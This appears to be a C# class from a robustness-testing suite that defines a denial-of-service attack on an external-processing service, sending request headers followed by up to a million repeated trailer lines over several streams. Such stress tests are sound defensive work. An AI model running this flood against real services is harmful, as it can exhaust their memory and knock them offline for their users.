using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Messages;

/// <summary>A million trailer lines behind headers that are in order.</summary>
internal sealed class TrailerLines : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        byte[] line = Requests.Field(1, [.. Requests.Field(1, "x"u8), .. Requests.Field(3, "y"u8)]);
        byte[] trailers = Requests.Framed(Requests.Field(6, Requests.Field(1, ((ReadOnlySpan<byte>)line).Times(target.Count(100_000, 1_000_000)))));
        for (int i = 0; i < target.Count(2, 10) && !peer.Gone; i++)
        {
            int stream = await peer.OpenAsync();
            await peer.SendAsync(stream, Requests.RequestHeaders().Framed());
            await peer.SendAsync(stream, trailers);
        }
    });
}
